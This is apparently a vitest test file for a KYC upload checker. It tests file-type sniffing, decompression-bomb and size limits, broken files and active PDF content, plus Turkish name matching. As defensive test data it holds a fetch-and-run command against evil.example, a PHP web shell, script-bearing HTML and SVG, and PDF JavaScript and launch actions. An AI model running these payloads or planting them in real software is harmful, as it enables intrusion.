import { describe, expect, it } from 'vitest';
import { isSamePersonName, normalizePersonName } from '@kasa/contract/kyc';
import { AppError } from '../../lib/app-error.ts';
import { inspectDocument } from './kyc.files.ts';
import { sampleJpeg, samplePdf, samplePng, sampleWebp } from './kyc.test-support.ts';

/** The message reference an inspection refuses with (or 'accepted'). */
function verdict(bytes: Buffer): string {
  try {
    inspectDocument(bytes);
    return 'accepted';
  } catch (error) {
    if (error instanceof AppError) return `${error.status} ${error.messageRef}`;
    throw error;
  }
}

describe('a document is judged by its bytes', () => {
  it('reads the type and the declared dimensions of JPEG, PNG and WebP, and accepts a plain PDF', () => {
    expect(inspectDocument(sampleJpeg(1600, 1000))).toEqual({
      mediaType: 'image/jpeg',
      width: 1600,
      height: 1000,
    });
    expect(inspectDocument(samplePng(800, 600))).toEqual({ mediaType: 'image/png', width: 800, height: 600 });
    expect(inspectDocument(sampleWebp(1024, 768))).toEqual({
      mediaType: 'image/webp',
      width: 1024,
      height: 768,
    });
    // The PDF's content stream holds "/JS" as text: stream bodies are not read as names.
    expect(inspectDocument(samplePdf())).toEqual({ mediaType: 'application/pdf', width: null, height: null });
  });

  it('refuses scripts, HTML and executables whatever they are named (a shell script renamed .jpg is not a JPEG)', () => {
    expect(verdict(Buffer.from('#!/bin/sh\ncurl http://evil.example | sh\n'))).toBe('400 e.kycFileType');
    expect(verdict(Buffer.from('<?php system($_GET["c"]); ?>'))).toBe('400 e.kycFileType');
    expect(verdict(Buffer.from('<html><script>alert(1)</script></html>'))).toBe('400 e.kycFileType');
    expect(verdict(Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'))).toBe(
      '400 e.kycFileType',
    );
    expect(verdict(Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200)]))).toBe('400 e.kycFileType');
    expect(verdict(Buffer.from('PK\x03\x04zip bomb inside', 'latin1'))).toBe('400 e.kycFileType');
  });

  it('refuses a PNG whose header declares 100000×100000 before anything decodes it (a decompression bomb)', () => {
    const bomb = samplePng(100_000, 100_000);
    expect(bomb.length).toBeLessThan(100);
    expect(verdict(bomb)).toBe('400 e.kycImageTooLarge:12000:12000:50');
    // Within each side's limit but over the pixel budget.
    expect(verdict(samplePng(10_000, 10_000))).toBe('400 e.kycImageTooLarge:12000:12000:50');
    expect(verdict(sampleWebp(16_000, 16_000))).toBe('400 e.kycImageTooLarge:12000:12000:50');
    expect(verdict(sampleJpeg(65_000, 65_000))).toBe('400 e.kycImageTooLarge:12000:12000:50');
  });

  it('refuses images too small to read a document from', () => {
    expect(verdict(samplePng(200, 150))).toBe('400 e.kycImageTooSmall:320:320');
    expect(verdict(sampleJpeg(100, 1000))).toBe('400 e.kycImageTooSmall:320:320');
  });

  it('refuses files that start like an image but are broken or crafted', () => {
    const jpeg = sampleJpeg(1000, 800);
    expect(verdict(jpeg.subarray(0, 30))).toBe('400 e.kycFileDamaged'); // cut before the frame header
    const noFrame = Buffer.from([0xff, 0xd8, 0xff, 0xda, 0x00, 0x08, 1, 1, 0, 0, 0x3f, 0, 0xff, 0xd9]);
    expect(verdict(noFrame)).toBe('400 e.kycFileDamaged');
    const lying = Buffer.from(jpeg);
    lying.writeUInt16BE(0xfff0, 4); // the first segment claims to run far past the end
    expect(verdict(lying)).toBe('400 e.kycFileDamaged');
    const png = samplePng(1000, 800);
    expect(verdict(png.subarray(0, 20))).toBe('400 e.kycFileDamaged');
    expect(verdict(samplePdf().subarray(0, 60))).toBe('400 e.kycFileDamaged'); // no %%EOF
  });

  it('refuses a PDF carrying JavaScript, a launch action or an embedded file, even with escaped names', () => {
    expect(verdict(samplePdf('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'))).toBe(
      '400 e.kycPdfActive',
    );
    expect(verdict(samplePdf('/OpenAction << /S /Launch /F (cmd.exe) >>'))).toBe('400 e.kycPdfActive');
    expect(verdict(samplePdf('/Names << /EmbeddedFiles 5 0 R >>'))).toBe('400 e.kycPdfActive');
    expect(verdict(samplePdf('/OpenAction << /S /J#61vaScript /J#53 (x) >>'))).toBe('400 e.kycPdfActive');
  });

  it('refuses an empty file and one over 10 MB', () => {
    expect(verdict(Buffer.alloc(0))).toBe('400 e.kycNoFile');
    const big = Buffer.concat([sampleJpeg(1000, 800), Buffer.alloc(10 * 1024 * 1024)]);
    expect(verdict(big)).toBe('413 e.kycFileTooLarge:10');
  });
});

describe('names are compared the Turkish way', () => {
  it('treats İ/i, I/ı, case, accents, punctuation and spaces as the same name', () => {
    expect(normalizePersonName('  ayşe   yılmaz ')).toBe('AYSE YILMAZ');
    expect(isSamePersonName('AYŞE YILMAZ', 'Ayşe Yılmaz')).toBe(true);
    expect(isSamePersonName('Ayse Yilmaz', 'Ayşe Yılmaz')).toBe(true);
    expect(isSamePersonName('İSMAİL IŞIK', 'ismail ışık')).toBe(true);
    expect(isSamePersonName('ISMAIL ISIK', 'İsmail Işık')).toBe(true);
    expect(isSamePersonName('Çağrı Öztürk-Güneş', 'CAGRI OZTURK GUNES')).toBe(true);
    expect(isSamePersonName("Ali O'Neil", 'ALI O NEIL')).toBe(true);
  });

  it('does not take another person’s name, a shortened one or an empty one', () => {
    expect(isSamePersonName('Ayşe Yılmaz', 'Ayşe Kaya')).toBe(false);
    expect(isSamePersonName('Ayşe Nur Yılmaz', 'Ayşe Yılmaz')).toBe(false);
    expect(isSamePersonName('', '')).toBe(false);
    expect(isSamePersonName(' - ', ' ')).toBe(false);
  });
});
